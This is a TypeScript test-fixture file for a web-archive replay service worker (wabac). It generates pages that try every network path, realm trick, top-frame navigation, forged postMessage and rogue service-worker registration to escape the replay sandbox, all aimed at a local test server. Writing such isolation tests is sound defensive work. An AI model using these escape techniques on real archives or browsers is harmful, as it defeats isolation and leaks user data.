/** Pages that try to get out: by everything that a page may refer to, and by scripts that were written for this purpose. */

/** Everything that loads something, in markup and by script. `host` is put together at run time, out of rewriters' sight. */
export function leakingPage(port: number): string {
  const live = `http://127.0.0.1:${port}`;
  return `<!doctype html><html><head><title>leaks</title>
<base href="${live}/base/">
<link rel="preconnect" href="${live}"><link rel="dns-prefetch" href="//leak.invalid"><link rel="prefetch" href="${live}/prefetch">
<link rel="preload" as="image" href="${live}/preload"><link rel="modulepreload" href="${live}/modulepreload.js">
<link rel="stylesheet" href="${live}/style.css"><link rel="icon" href="${live}/icon"><link rel="manifest" href="${live}/manifest">
<style>@import "${live}/import.css"; @font-face { font-family: x; src: url(${live}/font) } body { background: url("${live}/bg"); cursor: url(${live}/cursor), auto; font-family: x }
div::before { content: url(${live}/content) } li { list-style-image: url(${live}/list) } p { background-image: image-set("${live}/set.png" 1x) }</style>
<meta http-equiv="refresh" content="1; url=${live}/refresh">
</head><body background="${live}/background" onload="window.x = new Image().src = '${live}/onload'">
<p>leaks</p><div>d</div><ul><li>l</li></ul>
<img src="${live}/img" srcset="${live}/srcset 1x, ${live}/srcset2 2x" onerror="this.src='${live}/onerror'"><picture><source srcset="${live}/source"><img src="${live}/picture"></picture>
<video src="${live}/video" poster="${live}/poster"><track src="${live}/track" default></video><audio src="${live}/audio" autoplay></audio>
<iframe src="${live}/iframe"></iframe><iframe srcdoc="&lt;img src='${live}/srcdoc'&gt;&lt;meta http-equiv=refresh content='0;url=${live}/srcdoc-refresh'&gt;&lt;form action='${live}/srcdoc-form'&gt;&lt;/form&gt;&lt;script&gt;document.forms[0].submit()&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<img src='${live}/data'><script>new WebSocket('ws://127.0.0.1:${port}/data-ws');fetch('${live}/data-fetch')</script>"></iframe>
<object data="${live}/object"></object><embed src="${live}/embed"><input type="image" src="${live}/input">
<svg><image href="${live}/svg" width="9" height="9"/><use href="${live}/use.svg#a"/><a xlink:href="${live}/svg-a"><text y="9">t</text></a><style>rect { fill: url(${live}/svg-fill#a) }</style><set attributeName="href" to="${live}/set"/></svg>
<a id="a" href="${live}/a" ping="${live}/ping" target="_blank">link</a><form id="f" action="${live}/form" method="post"><input name="q" value="1"></form>
<table background="${live}/table"><tr><td>t</td></tr></table>
<script>
const host = ["127.0.0.1", ${port}].join(":"), at = (path) => "http://" + host + "/" + path, tries = {};
const attempt = (name, act) => { try { Promise.resolve(act()).catch(() => {}); } catch {} };
attempt("fetch", () => fetch(at("fetch"))); attempt("no-cors", () => fetch(at("no-cors"), { mode: "no-cors" }));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send(); });
attempt("beacon", () => navigator.sendBeacon(at("beacon"), "b")); attempt("events", () => new EventSource(at("events")));
attempt("socket", () => new WebSocket("ws://" + host + "/socket")); attempt("image", () => { new Image().src = at("image"); });
attempt("import", () => import(at("module.js"))); attempt("script", () => { const s = document.createElement("script"); s.src = at("script.js"); document.head.append(s); });
attempt("inner", () => { const d = document.createElement("div"); d.innerHTML = '<img src="' + at("inner") + '"><iframe src="' + at("inner-frame") + '"></iframe>'; document.body.append(d); });
attempt("write", () => document.write('<img src="' + at("write") + '">'));
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at("worker") + "');new WebSocket('ws://" + host + "/worker-ws')"]))));
attempt("transport", () => new WebTransport("https://" + host + "/wt")); attempt("popup", () => window.open(at("popup")));
attempt("font", () => new FontFace("y", "url(" + at("fontface") + ")").load()); attempt("css", () => { document.body.style.backgroundImage = "url(" + at("style") + ")"; });
attempt("click", () => document.getElementById("a").click()); attempt("submit", () => document.getElementById("f").submit());
attempt("audio", () => new Audio(at("audio2")).play()); attempt("link", () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = at(""); document.head.append(l); });
attempt("rtc", () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] }); c.createDataChannel("d"); return c.createOffer().then((o) => c.setLocalDescription(o)); });
</script></body></html>`;
}

/**
 * Knows that it is replayed, and by what: it takes natives from a realm that no script of ours or of wabac has touched.
 * Whatever comes of an attempt it tells in `window.got`. With WebRTC it tries that alone: Chromium may end the whole
 * process then. `window.leave` tries to take the frame elsewhere.
 */
export function hostilePage(port: number, pages: string, withRtc = false): string {
  return `<!doctype html><title>hostile</title><p>hostile</p><div id="d"></div><script>
const real = (function () {}).constructor("return self")(), host = ["127.0.0.1", ${port}].join(":"), at = (path) => "http://" + host + "/" + path;
const pages = ${JSON.stringify(pages)}, got = (real.got = {});
const attempt = (name, act) => { if (/rtc/.test(name) !== ${withRtc}) return; try { Promise.resolve(act()).then((v) => { got[name] = String(v); }, (e) => { got[name] = "refused: " + e; }); } catch (e) { got[name] = "refused: " + e; } };
real.document.getElementById("d").innerHTML = "<iframe></iframe>";
const clean = real[0], call = (f, self, ...args) => clean.Reflect.apply(f, self, args);
got.clean = String(clean.RTCPeerConnection) + String(clean.Object.getOwnPropertyDescriptor(clean.HTMLIFrameElement.prototype, "src").set);
// What is in a text, wabac does not rewrite.
const post = clean.eval("(to, ...args) => to.postMessage(...args)");
const make = (tag, attributes) => { const e = call(clean.Document.prototype.createElement, real.document, tag); for (const [n, v] of Object.entries(attributes ?? {})) call(clean.Element.prototype.setAttribute, e, n, v); call(clean.Node.prototype.appendChild, real.document.body, e); return e; };
const stun = (scope) => { const c = new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] }); c.createDataChannel("d"); return c.createOffer().then((o) => c.setLocalDescription(o)); };
// Windows above, and what is ours.
attempt("parent", () => real.parent.document.title); attempt("storage", () => real.parent.localStorage.getItem("ours"));
attempt("top", () => { real.top.location = at("top"); }); attempt("top-clean", () => clean.open(at("top-clean"), "_top")); attempt("top-pages", () => { real.top.location = pages + "/api/"; });
attempt("cookie", () => { call(clean.Object.getOwnPropertyDescriptor(clean.Document.prototype, "cookie").set, real.document, "evil=1; path=/"); return call(clean.Object.getOwnPropertyDescriptor(clean.Document.prototype, "cookie").get, real.document); });
attempt("api", () => clean.fetch(pages + "/api/stats").then((r) => r.text())); attempt("api-image", () => { make("img", { src: pages + "/api/stats" }); });
for (const message of [{ holotype: "go", url: pages + "/api/" }, { holotype: "go", url: "javascript:alert(1)" }, { wb_type: "load", url: "http://bank.example/", ts: "20200101000000" }, null, 1, "x"]) attempt("message", () => post(real.top, message, "*"));
// Realms of every kind.
const path = real.location.pathname, ours = path.split("/").slice(0, 4).join("/"), raw = (form) => path.replace("/w/r/", "/").replace("mp_", form);
const realms = { blank: "", other: "/w/r/none/2014mp_/http://x/", wombat: "/w/static/wombat.js", odd: ours + "/odd", api: "/w/r/api/coll-index", ir: raw("ir_"), st: raw("st_"), sf: raw("sf_"), boot: path.replace("/w/r/", "/boot/"), root: "/", sw: "/sw.js", live: at("live"), data: "data:text/html,<script>new WebSocket('ws://" + host + "/ws-data')<\\/script><img src='" + at("img-data") + "'>", blob: clean.URL.createObjectURL(new clean.Blob(["<script>new WebSocket('ws://" + host + "/ws-blob')<\\/script><img src='" + at("img-blob") + "'>"], { type: "text/html" })) };
for (const [name, src] of Object.entries(realms)) {
  const frame = make("iframe", { referrerpolicy: "no-referrer", ...(src === "" ? {} : { src }) }), n = real.length - 1;
  real.setTimeout(() => {
    const inner = real[n];
    attempt(name + "-socket", () => { new inner.WebSocket("ws://" + host + "/ws-" + name); });
    attempt(name + "-rtc", () => stun(inner));
    attempt(name + "-fetch", () => inner.fetch(at("fetch-" + name), { mode: "no-cors" }).then(() => "sent"));
    attempt(name + "-location", () => { inner.location = at("location-" + name); });
  }, 600);
}
// Elements and requests, by natives.
attempt("open", () => clean.open(at("open"))); attempt("rtc", () => stun(clean)); attempt("socket", () => { new clean.WebSocket("ws://" + host + "/self"); });
attempt("preconnect", () => { make("link", { rel: "preconnect", href: at("preconnect") }); }); attempt("prefetch", () => { make("link", { rel: "prefetch", href: at("prefetch") }); });
attempt("object", () => { make("object", { data: at("object") }); }); attempt("embed", () => { make("embed", { src: at("embed") }); }); attempt("img", () => { make("img", { src: at("img") }); });
real.leave = () => { attempt("form", () => { const f = make("form", { action: at("form"), method: "post", target: "_self" }); call(clean.HTMLFormElement.prototype.submit, f); });
attempt("location", () => { clean.Reflect.set(real.location, "href", at("location")); }); attempt("ping", () => { call(clean.HTMLElement.prototype.click, make("a", { href: "#x", ping: at("ping") })); }); attempt("download", () => { call(clean.HTMLElement.prototype.click, make("a", { href: at("download"), download: "x" })); }); };
attempt("beacon", () => call(clean.Navigator.prototype.sendBeacon, real.navigator, at("beacon"), "b")); attempt("worker", () => { new clean.Worker(clean.URL.createObjectURL(new clean.Blob(["new WebSocket('ws://" + host + "/worker');fetch('" + at("worker") + "',{mode:'no-cors'})"]))); });
attempt("script-worker", () => { new clean.Worker(raw("ir_").replace(/hostile$/, "worker.js")); });
attempt("speculation", () => { const s = call(clean.Document.prototype.createElement, real.document, "script"); call(clean.Element.prototype.setAttribute, s, "type", "speculationrules"); s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [at("speculation")] }], prerender: [{ source: "list", urls: [at("prerender")] }] }); call(clean.Node.prototype.appendChild, real.document.head, s); });
// The worker: another one, and the one that is there, told another configuration.
const workers = call(clean.Object.getOwnPropertyDescriptor(clean.Navigator.prototype, "serviceWorker").get, real.navigator);
const register = (...args) => call(clean.ServiceWorkerContainer.prototype.register, workers, ...args);
attempt("register", () => register(raw("ir_").replace(/hostile$/, "worker.js"), { scope: "/" }).then(() => "registered"));
attempt("register-static", () => register(raw("st_").replace(/hostile$/, "worker.js"), { scope: "/w/r/" }).then(() => "registered"));
attempt("register-replayed", () => register(path.replace(/hostile$/, "worker.js"), { scope: path }).then(() => "registered"));
const name = path.split("/")[3];
attempt("add", () => { const message = (n) => ({ msg_type: "addColl", name: n, type: "live", file: { sourceUrl: "proxy:" }, extraConfig: { prefix: "http://" + host + "/", isLive: true, csp: "default-src * 'unsafe-inline' 'unsafe-eval' data: blob: ws:" } }); for (const n of ["evil", name]) post(call(clean.Object.getOwnPropertyDescriptor(clean.ServiceWorkerContainer.prototype, "controller").get, workers), message(n)); return "told"; });
real.setTimeout(() => { for (const n of ["evil", name]) { make("iframe", { src: "/w/r/" + n + "/2014mp_/http://a.example/taken" }); const i = real.length - 1; real.setTimeout(() => { attempt("taken-" + n, () => { new real[i].WebSocket("ws://" + host + "/taken"); }); attempt("taken-rtc-" + n, () => stun(real[i])); }, 700); } }, 500);
real.setTimeout(() => { got.done = "yes"; }, 2500);
</script>`;
}
